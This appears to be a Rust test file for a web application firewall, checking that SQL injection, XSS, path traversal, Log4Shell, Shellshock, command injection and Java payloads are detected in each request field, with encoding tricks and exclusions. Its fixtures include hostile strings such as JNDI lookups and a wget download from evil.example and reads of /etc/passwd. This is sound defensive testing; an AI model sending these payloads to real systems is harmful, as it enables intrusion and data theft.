//! Tests of [`Waf::inspect`] as the gateway will call it: whole requests, each field kind,
//! each encoding trick end to end, exclusions, corpus lines as fixtures, and no panics on
//! random input.

use super::*;

fn waf() -> Waf {
    match Waf::new(WafConfig::default()) {
        Ok(w) => w,
        Err(e) => panic!("default config rejected: {e}"),
    }
}

fn get(path: &str, query: Option<&str>) -> Vec<Finding> {
    waf().inspect(&RequestView {
        method: "GET",
        path,
        query,
        headers: &[],
        content_type: None,
        body: b"",
    })
}

fn post(content_type: &str, body: &[u8]) -> Vec<Finding> {
    waf().inspect(&RequestView {
        method: "POST",
        path: "/api/items",
        query: None,
        headers: &[],
        content_type: Some(content_type),
        body,
    })
}

fn with_headers(headers: &[(&str, &[u8])]) -> Vec<Finding> {
    waf().inspect(&RequestView {
        method: "GET",
        path: "/",
        query: None,
        headers,
        content_type: None,
        body: b"",
    })
}

fn rules_and_fields(findings: &[Finding]) -> Vec<(RuleId, &str)> {
    findings
        .iter()
        .map(|f| (f.rule, f.field.as_str()))
        .collect()
}

#[test]
fn waf_is_send_and_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Waf>();
}

#[test]
fn clean_request_has_no_findings() {
    let findings = waf().inspect(&RequestView {
        method: "GET",
        path: "/api/v1/users/42/orders",
        query: Some("page=2&limit=50&sort=-created_at&q=O%27Brien&plan=select+a+plan"),
        headers: &[
            ("Host", b"api.example.com"),
            (
                "User-Agent",
                b"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
            ),
            ("Referer", b"https://app.example.com/orders?page=1"),
            ("Cookie", b"session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2ln; theme=dark"),
            ("Accept", b"application/json"),
        ],
        content_type: None,
        body: b"",
    });
    assert_eq!(findings, vec![]);
}

#[test]
fn sqli_in_query_value_names_field_and_fingerprint() {
    let findings = get("/search", Some("q=1%27%20OR%20%271%27%3D%271&page=1"));
    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Sqli, "query:q")]);
    assert_eq!(findings[0].matched, "1' OR '1'='1");
    assert!(
        findings[0]
            .fingerprint
            .as_deref()
            .is_some_and(|f| !f.is_empty())
    );
}

#[test]
fn sqli_in_query_key_is_found() {
    let findings = get("/search", Some("1%27%20OR%20%271%27%3D%271=x"));
    assert_eq!(
        rules_and_fields(&findings),
        vec![(RuleId::Sqli, "query-key:1' OR '1'='1")]
    );
}

#[test]
fn repeated_keys_are_each_inspected() {
    let findings = get("/", Some("id=1&id=%3Cscript%3Ealert(1)%3C/script%3E"));
    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Xss, "query:id")]);
}

#[test]
fn plus_decodes_to_space_in_query() {
    // Without `+` → space this is one word to libinjection.
    let findings = get("/", Some("id=1+UNION+SELECT+password+FROM+users--"));
    assert_eq!(
        rules_and_fields(&findings),
        vec![(RuleId::Sqli, "query:id")]
    );
}

#[test]
fn double_encoding_does_not_slip_through() {
    let findings = get("/", Some("q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"));
    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Xss, "query:q")]);
    assert_eq!(findings[0].matched, "<script>alert(1)</script>");
}

#[test]
fn percent_u_encoding_does_not_slip_through() {
    let findings = get("/", Some("q=%u003Cscript%u003Ealert(1)%u003C/script%u003E"));
    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Xss, "query:q")]);
}

#[test]
fn html_entities_do_not_slip_through() {
    let findings = get(
        "/",
        Some("q=%26%23x3C%3Bimg%20src%3Dx%20onerror%3Dalert(1)%26%23x3E%3B"),
    );
    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Xss, "query:q")]);
}

#[test]
fn nul_bytes_inside_markup_do_not_slip_through() {
    let findings = get("/", Some("q=%3Cscr%00ipt%3Ealert(1)%3C/script%3E"));
    let rules: Vec<RuleId> = findings.iter().map(|f| f.rule).collect();
    assert!(rules.contains(&RuleId::Xss), "{findings:?}");
    // The NUL itself is reported as a truncation attempt.
    assert!(rules.contains(&RuleId::Traversal), "{findings:?}");
}

#[test]
fn form_body_values_are_inspected() {
    let findings = post(
        "application/x-www-form-urlencoded; charset=UTF-8",
        b"name=Jane&comment=%3Csvg%2Fonload%3Dalert(1)%3E",
    );
    assert_eq!(
        rules_and_fields(&findings),
        vec![(RuleId::Xss, "form:comment")]
    );
}

#[test]
fn json_values_and_keys_are_inspected_with_paths() {
    let findings = post(
        "application/json",
        br#"{"user": {"name": "x' UNION SELECT 1,2,3-- ", "ok": "fine"},
            "<img src=x onerror=alert(1)>": 1}"#,
    );
    let mut got = rules_and_fields(&findings);
    got.sort();
    assert_eq!(
        got,
        vec![
            (RuleId::Sqli, "json:$.user.name"),
            (RuleId::Xss, "json-key:$.<img src=x onerror=alert(1)>"),
        ]
    );
}

#[test]
fn json_unicode_escapes_are_decoded() {
    let findings = post(
        "application/vnd.api+json",
        br#"{"bio": "\u003cscript\u003ealert(1)\u003c/script\u003e"}"#,
    );
    assert_eq!(
        rules_and_fields(&findings),
        vec![(RuleId::Xss, "json:$.bio")]
    );
}

#[test]
fn malformed_json_is_inspected_as_raw_body() {
    let findings = post("application/json", b"{\"q\": \"1' OR '1'='1\"");
    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Sqli, "body")]);
}

#[test]
fn multipart_values_and_file_names_are_inspected_but_not_contents() {
    let body = b"--b0undary\r\n\
Content-Disposition: form-data; name=\"title\"\r\n\r\n\
1' AND SLEEP(5)-- \r\n\
--b0undary\r\n\
Content-Disposition: form-data; name=\"file\"; filename=\"../../../etc/passwd\"\r\n\
Content-Type: text/html\r\n\r\n\
<script>alert('content is data')</script>\r\n\
--b0undary--\r\n";
    let findings = post("multipart/form-data; boundary=b0undary", body);
    assert_eq!(
        rules_and_fields(&findings),
        vec![
            (RuleId::Sqli, "multipart:title"),
            (RuleId::Traversal, "multipart-filename:file"),
        ]
    );
}

#[test]
fn cookies_are_inspected_by_name() {
    let findings = with_headers(&[(
        "Cookie",
        b"theme=dark; session=abc%27%20OR%201%3D1--%20" as &[u8],
    )]);
    assert_eq!(
        rules_and_fields(&findings),
        vec![(RuleId::Sqli, "cookie:session")]
    );
}

#[test]
fn attack_headers_get_injection_detectors_other_headers_do_not() {
    let sqli: &[u8] = b"1' OR '1'='1";
    let findings = with_headers(&[("Referer", sqli), ("X-Custom", sqli)]);
    assert_eq!(
        rules_and_fields(&findings),
        vec![(RuleId::Sqli, "header:referer")]
    );
    // Except for CRS's PL1 rules that read every header (941110 script tags, 941120 event
    // handlers), as nginx + ModSecurity + CRS do.
    let payload: &[u8] = b"<script>alert(1)</script>";
    let findings = with_headers(&[("Referer", payload), ("X-Custom", payload)]);
    assert_eq!(
        rules_and_fields(&findings),
        vec![
            (RuleId::Xss, "header:referer"),
            (RuleId::Xss, "header:x-custom")
        ]
    );
    assert_eq!(findings[1].crs_rule, Some(941110));
    assert_eq!(findings[1].rule_name(), "crs-941110");
    let strict = Waf::new(WafConfig {
        paranoia: Paranoia::Strict,
        ..WafConfig::default()
    })
    .map(|w| {
        w.inspect(&RequestView {
            method: "GET",
            path: "/",
            query: None,
            headers: &[("X-Custom", payload)],
            content_type: None,
            body: b"",
        })
    })
    .unwrap_or_default();
    assert_eq!(
        rules_and_fields(&strict),
        vec![(RuleId::Xss, "header:x-custom")]
    );
}

#[test]
fn repeated_attack_headers_are_reported_on_every_request() {
    // The per-thread memo of clean header values must never remember an attack, even when
    // the same value appears twice in one request (the second finding is deduplicated).
    let payload: &[u8] = b"x' OR '1'='1";
    for _ in 0..3 {
        let findings = with_headers(&[("Referer", payload), ("Referer", payload)]);
        assert_eq!(
            rules_and_fields(&findings),
            vec![(RuleId::Sqli, "header:referer")]
        );
    }
    let clean: &[u8] = b"https://app.example.com/a?b=c";
    for _ in 0..3 {
        assert_eq!(with_headers(&[("Referer", clean)]), vec![]);
    }
}

#[test]
fn log4shell_in_any_header_and_obfuscated() {
    let findings = with_headers(&[
        ("X-Api-Version", b"${jndi:ldap://evil.example/a}" as &[u8]),
        ("Accept-Language", b"${${lower:j}ndi:${lower:l}dap://x/a}"),
        ("X-Trace", b"%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fx%7D"),
    ]);
    assert_eq!(
        rules_and_fields(&findings),
        vec![
            (RuleId::Log4shell, "header:x-api-version"),
            (RuleId::Log4shell, "header:accept-language"),
            (RuleId::Log4shell, "header:x-trace"),
        ]
    );
}

#[test]
fn log4shell_in_bodies_of_unparsed_type_and_in_xml() {
    let findings = post("text/plain", b"note: ${jndi:ldap://x/a}");
    assert_eq!(
        rules_and_fields(&findings),
        vec![(RuleId::Log4shell, "body")]
    );
    let findings = post("application/xml", b"<a>${jndi:ldap://x/a}</a>");
    assert_eq!(
        rules_and_fields(&findings),
        vec![(RuleId::Log4shell, "xml:/a")]
    );
}

#[test]
fn xml_text_cdata_and_attribute_values_are_inspected_by_their_paths() {
    let body = br#"<?xml version="1.0" encoding="UTF-8"?>
<order id="7">
  <item sku="1' OR '1'='1">Blue mug</item>
  <note>&lt;script&gt;alert(document.cookie)&lt;/script&gt;</note>
  <gift><![CDATA[<img src=x onerror=alert(1)>]]></gift>
  <path>../../../../etc/passwd</path>
  <q>1' UNION<!-- split --> SELECT password FROM users--</q>
</order>"#;
    let findings = post("application/xml", body);
    let found = rules_and_fields(&findings);
    for expected in [
        (RuleId::Sqli, "xml:/order/item/@sku"),
        (RuleId::Xss, "xml:/order/note"),
        (RuleId::Xss, "xml:/order/gift"),
        (RuleId::Traversal, "xml:/order/path"),
        (RuleId::Sqli, "xml:/order/q"),
    ] {
        assert!(found.contains(&expected), "{expected:?} in {found:?}");
    }
    // Nothing reported on the clean values (the id, the item's text).
    assert!(
        found
            .iter()
            .all(|(_, field)| !matches!(*field, "xml:/order/@id" | "xml:/order/item")),
        "{found:?}"
    );
}

#[test]
fn soap_bodies_with_entity_encoded_payloads_are_inspected() {
    let body = br#"<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope">
  <soap:Body><GetUser><name>x&apos; UNION SELECT password FROM users--</name></GetUser></soap:Body>
</soap:Envelope>"#;
    for content_type in [
        "application/soap+xml; charset=utf-8",
        "text/xml",
        "application/atom+xml",
    ] {
        let findings = post(content_type, body);
        assert!(
            rules_and_fields(&findings)
                .contains(&(RuleId::Sqli, "xml:/soap:Envelope/soap:Body/GetUser/name")),
            "{content_type}: {findings:?}"
        );
    }
}

#[test]
fn benign_xml_documents_are_clean() {
    let bodies: [&[u8]; 3] = [
        br#"<?xml version="1.0"?>
<!-- an order from the shop -->
<order xmlns="urn:shop" id="1234" currency="EUR">
  <customer email="jane.doe+news@example.com">Jane O'Neil</customer>
  <item sku="MUG-01" qty="2">Blue mug &amp; saucer, 50% off</item>
  <note>Please deliver between 9 and 5; ring twice. Don't leave it at the door.</note>
  <address>221B Baker St., London NW1 6XE</address>
</order>"#,
        br#"<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><m:GetPrice xmlns:m="https://www.example.org/stock"><m:Item>Apples</m:Item></m:GetPrice></soap:Body></soap:Envelope>"#,
        br#"<feed xmlns="http://www.w3.org/2005/Atom"><title>Select a plan</title><entry><title>Union Station, Track 4</title><updated>2026-12-06T12:00:00Z</updated></entry></feed>"#,
    ];
    for body in bodies {
        let findings = post("application/xml", body);
        assert!(findings.is_empty(), "{findings:?}");
    }
}

#[test]
fn malformed_or_cut_xml_is_inspected_whole() {
    for body in [
        &b"<q>1' OR '1'='1"[..],
        b"<q>1' OR '1'='1</r>",
        b"<a>x</a><b>1' OR '1'='1</b>",
    ] {
        let findings = post("application/xml", body);
        assert!(
            rules_and_fields(&findings).contains(&(RuleId::Sqli, "body")),
            "{:?}: {findings:?}",
            String::from_utf8_lossy(body)
        );
    }
}

#[test]
fn deeply_nested_xml_keeps_short_names() {
    let body = format!(
        "{}&lt;script&gt;alert(1)&lt;/script&gt;{}",
        "<a>".repeat(5_000),
        "</a>".repeat(5_000)
    );
    let findings = post("application/xml", body.as_bytes());
    let xss: Vec<_> = findings.iter().filter(|f| f.rule == RuleId::Xss).collect();
    assert!(!xss.is_empty(), "{findings:?}");
    // Named after the ancestor at the naming depth (32 levels of `/a`), not 5,000 levels.
    assert!(
        xss.iter()
            .all(|f| f.field == format!("xml:{}", "/a".repeat(32))),
        "{xss:?}"
    );
}

#[test]
fn shellshock_in_user_agent() {
    let findings = with_headers(&[("User-Agent", b"() { :; }; /bin/cat /etc/passwd" as &[u8])]);
    assert!(
        rules_and_fields(&findings).contains(&(RuleId::Shellshock, "header:user-agent")),
        "{findings:?}"
    );
}

#[test]
fn scanner_user_agent_and_probe_path() {
    let findings = waf().inspect(&RequestView {
        method: "GET",
        path: "/.git/config",
        query: None,
        headers: &[("user-agent", b"sqlmap/1.7.2#stable (https://sqlmap.org)")],
        content_type: None,
        body: b"",
    });
    assert_eq!(
        rules_and_fields(&findings),
        vec![
            (RuleId::Scanner, "path"),
            (RuleId::Scanner, "header:user-agent")
        ]
    );
}

#[test]
fn traversal_in_path_query_and_encoded_variants() {
    for (path, query) in [
        ("/static/..%2f..%2fetc/passwd", None),
        ("/static/%252e%252e/%252e%252e/secret", None),
        ("/download", Some("file=..%5c..%5cwindows%5cwin.ini")),
        ("/download", Some("file=report.pdf%00.jpg")),
        ("/view", Some("page=%2Fproc%2Fself%2Fenviron")),
    ] {
        let findings = get(path, query);
        assert!(
            findings.iter().any(|f| f.rule == RuleId::Traversal),
            "{path} {query:?}: {findings:?}"
        );
    }
}

#[test]
fn xss_in_path_segment() {
    let findings = get("/profile/%3Cscript%3Ealert(1)%3C%2Fscript%3E", None);
    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Xss, "path")]);
}

#[test]
fn body_beyond_the_inspection_limit_is_not_read() {
    let mut body = b"a=".to_vec();
    body.extend(std::iter::repeat_n(b'x', 100));
    body.extend_from_slice(b"&b=%3Cscript%3Ealert(1)%3C/script%3E");
    let limited = Waf::new(WafConfig {
        max_inspected_bytes: 64,
        ..WafConfig::default()
    });
    let request = RequestView {
        method: "POST",
        path: "/",
        query: None,
        headers: &[],
        content_type: Some("application/x-www-form-urlencoded"),
        body: &body,
    };
    let findings = limited.map(|w| w.inspect(&request)).unwrap_or_default();
    assert_eq!(findings, vec![]);
    assert_eq!(waf().inspect(&request).len(), 1);
}

#[test]
fn disabled_detectors_report_nothing() {
    let w = Waf::new(WafConfig {
        xss: false,
        ..WafConfig::default()
    });
    let request = RequestView {
        method: "GET",
        path: "/",
        query: Some("q=%3Cscript%3Ealert(1)%3C/script%3E"),
        headers: &[],
        content_type: None,
        body: b"",
    };
    assert_eq!(w.map(|w| w.inspect(&request)).unwrap_or_default(), vec![]);
}

#[test]
fn exclusions_skip_rules_for_fields_under_a_prefix_only() {
    let w = Waf::new(WafConfig {
        exclusions: vec![Exclusion {
            path_prefix: "/cms/".into(),
            rules: vec![RuleId::Xss],
            fields: vec!["json:$.body_html".into()],
        }],
        ..WafConfig::default()
    });
    let Ok(w) = w else {
        panic!("valid exclusion rejected")
    };
    let body =
        br#"{"body_html": "<img src=x onerror=alert(1)>", "title": "<script>alert(1)</script>"}"#;
    let at = |path: &'static str| {
        w.inspect(&RequestView {
            method: "POST",
            path,
            query: None,
            headers: &[],
            content_type: Some("application/json"),
            body,
        })
    };
    let mut cms = rules_and_fields(&at("/cms/pages/1"))
        .into_iter()
        .map(|(r, f)| (r, f.to_owned()))
        .collect::<Vec<_>>();
    cms.sort();
    assert_eq!(cms, vec![(RuleId::Xss, "json:$.title".to_owned())]);
    assert_eq!(at("/api/pages/1").len(), 2);
}

#[test]
fn exclusion_of_all_rules_on_a_cookie_pattern() {
    let w = Waf::new(WafConfig {
        exclusions: vec![Exclusion {
            path_prefix: "/".into(),
            rules: vec![],
            fields: vec!["cookie:*".into()],
        }],
        ..WafConfig::default()
    });
    let findings = w
        .map(|w| {
            w.inspect(&RequestView {
                method: "GET",
                path: "/",
                query: Some("q=%3Cscript%3Ealert(1)%3C/script%3E"),
                headers: &[("Cookie", b"x=<script>alert(1)</script>")],
                content_type: None,
                body: b"",
            })
        })
        .unwrap_or_default();
    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Xss, "query:q")]);
}

#[test]
fn invalid_config_is_rejected_by_new() {
    let err = Waf::new(WafConfig {
        exclusions: vec![Exclusion {
            path_prefix: "nope".into(),
            rules: vec![RuleId::Sqli],
            fields: vec![],
        }],
        ..WafConfig::default()
    })
    .err();
    assert_eq!(
        err,
        Some(WafError::InvalidPathPrefix {
            index: 0,
            prefix: "nope".into()
        })
    );
}

#[test]
fn matched_is_truncated_in_findings() {
    let query = format!("q={}", "%3Cscript%3Ealert(1)%3C/script%3E".repeat(10));
    let findings = get("/", Some(&query));
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].matched.chars().count(), MATCHED_MAX_CHARS);
    assert!(
        findings[0]
            .matched
            .starts_with("<script>alert(1)</script><script>")
    );
}

#[test]
fn finding_serializes_for_the_access_log() {
    let findings = get("/", Some("q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D"));
    let json = serde_json::to_string(&findings).unwrap_or_default();
    assert_eq!(
        json,
        r#"[{"rule":"log4shell","field":"query:q","matched":"${jndi:ldap://x}","fingerprint":null}]"#
    );
}

/// Lines from `/work/shared/corpora/libinjection/data` and PayloadsAllTheThings, as they are
/// stored there (URL-encoded query values for libinjection, raw for PATT).
#[test]
fn corpus_lines_as_fixtures() {
    let attacks = [
        "SO_BUY%3B+IF+%281%3D1%29+WAITFOR+DELAY+%2700%3A00%3A01%27--", // sqli-misc.txt
        "SO_BUY+AND+IF%281%3D1%2CBENCHMARK%281589466%2CMD5%280X41%29%29%2C0%29", // sqli-misc.txt
        "%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E",
        "1%27+into+outfile+%27%2Ftmp%2Fx", // a known libinjection miss, via the supplement
    ];
    for line in attacks {
        assert!(!get("/", Some(&format!("q={line}"))).is_empty(), "{line}");
    }
    // false_positives.txt: tricky benign inputs that must stay clean.
    for line in [
        "NOT ALL WHO WANDER",
        "LOCK AND KEY",
        "Y'ALL COME BACK NOW",
        "3 TO 6 MONTHS",
        "2 OR 4 METAL BUTTONS",
    ] {
        let q = format!("q={}", line.replace(' ', "+").replace('\'', "%27"));
        assert_eq!(get("/", Some(&q)), vec![], "{line}");
    }
}

#[test]
fn rce_in_query_form_cookie_and_referer() {
    let found = get("/ping", Some("host=127.0.0.1%3Bwhoami&x=1"));
    assert_eq!(rules_and_fields(&found), vec![(RuleId::Rce, "query:host")]);
    let found = post(
        "application/x-www-form-urlencoded",
        b"cmd=%7Cwhoami&note=cat+food",
    );
    assert_eq!(rules_and_fields(&found), vec![(RuleId::Rce, "form:cmd")]);
    let found = with_headers(&[
        ("Cookie", b"lang=en;x=$(id)"),
        ("Referer", b"https://example.com/?q=1;ls%20-la"),
    ]);
    assert_eq!(
        rules_and_fields(&found),
        vec![(RuleId::Rce, "header:referer"), (RuleId::Rce, "cookie:x")]
    );
    // Prose with separators and command-like words is not command injection.
    for q in [
        "q=Tom+%26+Jerry%27s+pizza%3B+cat+food",
        "q=select+a+plan",
        "q=a%3B+b",
    ] {
        assert_eq!(get("/search", Some(q)), vec![], "{q}");
    }
}

#[test]
fn java_in_json_xml_headers_and_jsp_uploads() {
    let found = post(
        "application/json",
        br#"{"name": "${T(java.lang.Runtime).getRuntime().exec('id')}"}"#,
    );
    assert_eq!(
        rules_and_fields(&found),
        vec![(RuleId::Java, "json:$.name")]
    );
    let found = post(
        "application/xml",
        b"<map><entry><java.lang.ProcessBuilder><command>id</command></java.lang.ProcessBuilder></entry></map>",
    );
    assert_eq!(rules_and_fields(&found), vec![(RuleId::Java, "body")]);
    let found = with_headers(&[("X-Filename", b"shell.jsp"), ("X-Other", b"rO0ABXNy")]);
    assert_eq!(
        rules_and_fields(&found),
        vec![
            (RuleId::Java, "header:x-filename"),
            (RuleId::Java, "header:x-other")
        ]
    );
    // A JSP name is an upload only in a file-name field.
    assert_eq!(get("/docs", Some("page=index.jsp")), vec![]);
    // `${jndi:` stays Log4Shell's alone.
    let found = get("/", Some("q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"));
    assert_eq!(
        rules_and_fields(&found),
        vec![(RuleId::Log4shell, "query:q")]
    );
    assert_eq!(
        get("/", Some("q=Runtime+error+in+java.lang+package")),
        vec![]
    );
}

#[test]
fn every_header_verdict_repeats_with_the_memo() {
    // Every detector's verdict on a header value is remembered per thread, clean ones only:
    // Log4Shell and shellshock in any header and scanner agents are found on every request.
    for _ in 0..3 {
        let findings = with_headers(&[
            (
                "Accept-Language",
                b"${jndi:ldap://evil.example/memo}" as &[u8],
            ),
            ("X-Memo", b"() { :; }; /bin/cat /etc/passwd"),
            ("User-Agent", b"sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ]);
        let rules: Vec<_> = findings.iter().map(|f| f.rule).collect();
        for rule in [RuleId::Log4shell, RuleId::Shellshock, RuleId::Scanner] {
            assert!(rules.contains(&rule), "{rule:?} missing from {findings:?}");
        }
    }
    let clean: &[u8] = b"text/html,application/xhtml+xml;q=0.9,*/*;q=0.8";
    for _ in 0..3 {
        assert_eq!(with_headers(&[("Accept", clean)]), vec![]);
    }
}

#[test]
fn path_and_parameter_name_verdicts_repeat_with_the_memo() {
    // Path segments, whole paths and query parameter names are remembered when clean: the
    // same clean request stays clean, and attacks in those places are found every time.
    for _ in 0..3 {
        assert_eq!(get("/api/users/profile", Some("id=42&sort=name")), vec![]);
        let found = get("/api/%3Cscript%3Ealert(1)%3C%2Fscript%3E", None);
        assert!(
            found
                .iter()
                .any(|f| f.rule == RuleId::Xss && f.field == "path"),
            "{found:?}"
        );
        let found = get("/static/..%2f..%2f..%2fetc/passwd", None);
        assert!(
            found.iter().any(|f| f.rule == RuleId::Traversal),
            "{found:?}"
        );
        let found = get("/api/users", Some("id%27%20OR%20%271%27%3D%271=1"));
        assert!(
            found
                .iter()
                .any(|f| f.rule == RuleId::Sqli && f.field.starts_with("query-key")),
            "{found:?}"
        );
        // The clean parts of those requests, alone again, are still clean.
        assert_eq!(get("/api/users", Some("id=1")), vec![]);
    }
}

#[test]
fn digits_are_clean_to_every_detector() {
    // What the digits-only fast path in `check_own` skips: every detector, on random digit
    // strings of every length up to 64, finds nothing.
    let mut next = xorshift(0x9e37_79b9_7f4a_7c15);
    for _ in 0..20_000 {
        let seed = next();
        let len = (seed % 64 + 1) as usize;
        let digits: Vec<u8> = (0..len)
            .map(|i| b'0' + ((seed >> (i % 60)) % 10) as u8)
            .collect();
        assert!(injection::sqli(&digits).is_none(), "{digits:?}");
        assert!(!injection::xss(&digits), "{digits:?}");
        assert!(traversal::check(&digits, false).is_none(), "{digits:?}");
        assert!(!log4shell::check(&digits), "{digits:?}");
        assert!(!shellshock::check(&digits), "{digits:?}");
        assert!(!rce::check(&digits), "{digits:?}");
        assert!(!java::check(&digits), "{digits:?}");
        assert!(!java::jsp_filename(&digits), "{digits:?}");
        assert!(!libinjectionrs::detect_sqli(&digits).is_injection());
    }
    // And through the whole WAF, as query values, path segments and JSON numbers.
    assert_eq!(get("/api/users/1234567890", Some("id=42&page=007")), vec![]);
}

#[test]
fn memo_keeps_rce_and_java_verdicts_per_value() {
    let ua: &[u8] = b"Mozilla/5.0 (X11; Linux x86_64) memo-rce-java";
    assert_eq!(with_headers(&[("User-Agent", ua)]), vec![]);
    assert_eq!(with_headers(&[("User-Agent", ua)]), vec![]);
    // A WAF with RCE off remembers less; one with it on still inspects what was not checked.
    let no_rce = Waf::new(WafConfig {
        rce: false,
        ..WafConfig::default()
    });
    let attack: &[u8] = b"x; wget http://evil.example/a.sh";
    if let Ok(w) = no_rce {
        let req = RequestView {
            method: "GET",
            path: "/",
            query: None,
            headers: &[("User-Agent", attack)],
            content_type: None,
            body: b"",
        };
        assert_eq!(w.inspect(&req), vec![]);
    }
    let found = with_headers(&[("User-Agent", attack)]);
    assert_eq!(
        rules_and_fields(&found),
        vec![(RuleId::Rce, "header:user-agent")]
    );
}

/// Never panics, whatever the bytes: random paths, queries, headers and bodies of every
/// content type, from a fixed-seed xorshift generator (reproducible, bounded count).
#[test]
fn random_input_never_panics() {
    let mut next = xorshift(0x2545_f491_4f6c_dd1d);
    // Bias towards the bytes that drive the parsers and decoders.
    const SPECIAL: &[u8] =
        b"%&=;+/\\.<>\"'${}()-#:\x00\x0b\r\nuU0123456789abcdefjndi|`?*,@^ catidlsjava.lang.rO0AB";
    let mut bytes = |len: usize| -> Vec<u8> {
        (0..len)
            .map(|_| {
                let r = next();
                if r.is_multiple_of(3) {
                    SPECIAL[(r >> 8) as usize % SPECIAL.len()]
                } else {
                    (r >> 16) as u8
                }
            })
            .collect()
    };
    let w = waf();
    let types = [
        "application/json",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=%",
        "text/plain",
        "application/xml",
    ];
    for i in 0..3_000 {
        let path = String::from_utf8_lossy(&bytes(i % 40)).into_owned();
        let query = String::from_utf8_lossy(&bytes(i % 97)).into_owned();
        let header = bytes(i % 60);
        let cookie = bytes(i % 50);
        let body = bytes(i % 300);
        let findings = w.inspect(&RequestView {
            method: "POST",
            path: &path,
            query: Some(&query),
            headers: &[
                ("User-Agent", &header),
                ("Cookie", &cookie),
                ("X-Any", &header),
                ("X-Filename", &header),
            ],
            content_type: Some(types[i % types.len()]),
            body: &body,
        });
        for f in findings {
            assert!(f.matched.chars().count() <= MATCHED_MAX_CHARS);
        }
    }
}

fn crs_ids(findings: &[Finding]) -> Vec<(RuleId, &str, Option<u32>)> {
    findings
        .iter()
        .map(|f| (f.rule, f.field.as_str(), f.crs_rule))
        .collect()
}

fn form_with(waf: &Waf, body: &[u8]) -> Vec<Finding> {
    waf.inspect(&RequestView {
        method: "POST",
        path: "/post",
        query: None,
        headers: &[],
        content_type: Some("application/x-www-form-urlencoded"),
        body,
    })
}

/// Payloads from the CRS regression suite (`tests/REQUEST-94x-*/<id>.yaml`) that libinjection
/// does not report: found by the vendored CRS rule, named by its id.
#[test]
fn crs_rules_find_what_libinjection_misses_and_name_the_rule() {
    assert_eq!(
        crs_ids(&post(
            "application/x-www-form-urlencoded",
            b"941180-1=window.location"
        )),
        vec![(RuleId::Xss, "form:941180-1", Some(941180))]
    );
    assert_eq!(
        crs_ids(&get("/get", Some("sql_table=pg_catalog"))),
        vec![(RuleId::Sqli, "query:sql_table", Some(942140))]
    );
    assert_eq!(
        crs_ids(&post(
            "application/x-www-form-urlencoded",
            b"var=1234%20AS%20%22foobar%22%20FROM%20tablevar2=whatever"
        )),
        vec![(RuleId::Sqli, "form:var", Some(942360))]
    );
    let union = get("/get", Some("var=union%20select%20col%20from"));
    assert_eq!(union.len(), 1);
    assert_eq!(union[0].rule, RuleId::Sqli);
    assert!(union[0].crs_rule.is_some());
}

#[test]
fn crs_finding_carries_the_matched_text_and_serializes_its_id() {
    let findings = get("/", Some("q=x%20window.location%20y"));
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].matched, "window.location");
    let json = serde_json::to_string(&findings).unwrap_or_default();
    assert_eq!(
        json,
        r#"[{"rule":"xss","field":"query:q","matched":"window.location","fingerprint":null,"crs_rule":941180}]"#
    );
}

#[test]
fn libinjection_findings_are_not_repeated_as_crs_findings() {
    let findings = get("/", Some("q=%3Cscript%3Ealert(1)%3C/script%3E"));
    assert_eq!(crs_ids(&findings), vec![(RuleId::Xss, "query:q", None)]);
}

#[test]
fn crs_exclusion_switches_one_rule_off_under_a_prefix() {
    let Ok(w) = waf().with_crs_exclusions(&[CrsExclusion {
        path_prefix: "/docs/".into(),
        rules: vec![941180],
        fields: vec!["form:*".into()],
    }]) else {
        panic!("valid CRS exclusion rejected")
    };
    let body = b"snippet=window.location";
    let at = |path: &'static str| {
        w.inspect(&RequestView {
            method: "POST",
            path,
            query: None,
            headers: &[],
            content_type: Some("application/x-www-form-urlencoded"),
            body,
        })
    };
    assert_eq!(at("/docs/edit"), vec![]);
    assert_eq!(at("/api/edit").len(), 1);
    // Other CRS rules and the detectors still apply under the prefix.
    let other = w.inspect(&RequestView {
        method: "GET",
        path: "/docs/x",
        query: Some("sql_table=pg_catalog"),
        headers: &[],
        content_type: None,
        body: b"",
    });
    assert_eq!(
        crs_ids(&other),
        vec![(RuleId::Sqli, "query:sql_table", Some(942140))]
    );
    // A detector exclusion (`xss`) switches off the 941 rules too.
    let Ok(no_xss) = Waf::new(WafConfig {
        exclusions: vec![Exclusion {
            path_prefix: "/".into(),
            rules: vec![RuleId::Xss],
            fields: vec![],
        }],
        ..WafConfig::default()
    }) else {
        panic!("valid exclusion rejected")
    };
    assert_eq!(form_with(&no_xss, body), vec![]);
}

#[test]
fn invalid_crs_exclusions_are_rejected() {
    let reject = |ex: CrsExclusion| waf().with_crs_exclusions(&[ex]).err();
    assert!(matches!(
        reject(CrsExclusion {
            path_prefix: "/".into(),
            rules: vec![942999],
            fields: vec![],
        }),
        Some(CrsError::UnknownRule {
            index: 0,
            id: 942999
        })
    ));
    assert!(matches!(
        reject(CrsExclusion {
            path_prefix: "api".into(),
            rules: vec![942140],
            fields: vec![],
        }),
        Some(CrsError::InvalidExclusion { index: 0, .. })
    ));
    assert!(matches!(
        reject(CrsExclusion {
            path_prefix: "/".into(),
            rules: vec![],
            fields: vec![],
        }),
        Some(CrsError::InvalidExclusion { index: 0, .. })
    ));
    assert!(matches!(
        reject(CrsExclusion {
            path_prefix: "/".into(),
            rules: vec![942140],
            fields: vec!["bogus:x".into()],
        }),
